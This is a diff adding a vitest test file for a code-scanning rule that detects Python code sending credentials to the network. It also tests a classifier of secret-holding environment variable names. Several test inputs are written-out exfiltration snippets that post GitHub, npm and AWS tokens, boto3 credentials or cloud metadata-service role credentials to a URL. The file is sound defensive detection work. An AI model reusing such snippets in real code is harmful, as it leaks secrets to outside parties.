@@ -1,0 +1,49 @@
+import { expect, test } from 'vitest';
+import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
+import { namesKeyVariable } from '../../src/python/vocabulary/keys.js';
+import { read } from './reading.js';
+
+async function found(text: string): Promise<readonly string[]> {
+  const { facts } = await read(`import os, requests\n${text}\n`);
+  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ severity, isStrong }) => `${severity}${isStrong === true ? ', strong' : ''}`);
+}
+
+test.each([
+  ['a list of variables', 'names = ["GITHUB_TOKEN", "NPM_TOKEN", "TWINE_PASSWORD"]\nrequests.post(u, json={n: os.environ.get(n) for n in names})'],
+  ['variables in a loop', 'd = {}\nfor n in ("GITHUB_TOKEN", "OPENAI_API_KEY"):\n    d[n] = os.getenv(n)\nrequests.post(u, json=d)'],
+  ['variables one by one', 'requests.post(u, json={"a": os.environ["GITHUB_TOKEN"], "b": os.environ["NPM_TOKEN"]})'],
+  ['the key that AWS clients sign with', 'requests.post(u, json=[os.environ["AWS_SECRET_ACCESS_KEY"]])'],
+  ['what a client of AWS was set up with', 'import boto3\nk = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post(u, json={"s": k.secret_key})'],
+  ['the role of a machine', 'r = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/")\nrequests.post(u, data=r.text)'],
+])('%s is sent', async (_, text) => {
+  expect(await found(text)).toEqual(['critical, strong']);
+});
+
+test.each([
+  ['one token of its own', 'requests.get(u, headers={"Authorization": os.environ["GARDEN_TOKEN"]})'],
+  ['a name and a password of one service', 'requests.get(u, auth=(os.environ["GARDEN_ACCESS_KEY_ID"], os.environ["GARDEN_PASSWORD"]))'],
+  ['keys of several services, by functions that are called for it', 'def ask(url):\n    key = os.environ.get("OPENAI_API_KEY") or os.environ.get("ANTHROPIC_API_KEY")\n    requests.post(url, headers={"Authorization": key})'],
+  ['a signature', 'import hmac\nrequests.get(u, headers={"A": hmac.new(os.environ["AWS_SECRET_ACCESS_KEY"].encode(), b"x").hexdigest()})'],
+  ['a request that is signed', 'from requests_aws4auth import AWS4Auth\nrequests.get(u, auth=AWS4Auth(os.environ["AWS_ACCESS_KEY_ID"], os.environ["AWS_SECRET_ACCESS_KEY"], "r", "es"))'],
+  ['a client that is set up with keys', 'import boto3\nboto3.client("s3", aws_access_key_id=os.environ["AWS_ACCESS_KEY_ID"], aws_secret_access_key=os.environ["AWS_SECRET_ACCESS_KEY"]).put_object(Body=b"x")'],
+  ['the token that the metadata service itself is shown', 't = requests.put("http://169.254.169.254/latest/api/token").text\nrequests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", headers={"X": t})'],
+  ['the name of a variable', 'requests.post(u, json={"missing": "GITHUB_TOKEN", "also": "NPM_TOKEN"})'],
+])('%s is sent by honest clients', async (_, text) => {
+  expect(await found(text)).toEqual([]);
+});
+
+test('a client of a cloud that is called for it may use the role of its machine', async () => {
+  expect(await found('def ask(url):\n    t = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token").json()\n    requests.get(url, headers={"Authorization": t["access_token"]})')).toEqual(['low']);
+});
+
+test.each([
+  ['AWS_SECRET_ACCESS_KEY', true],
+  ['GH_TOKEN', true],
+  ['DATABASE_PASSWORD', true],
+  ['TOKENIZERS_PARALLELISM', false],
+  ['token', false],
+  ['PATH', false],
+  ['KEYBOARD', false],
+])('%s opens an account: %s', (name, isKey) => {
+  expect(namesKeyVariable(name)).toBe(isKey);
+});
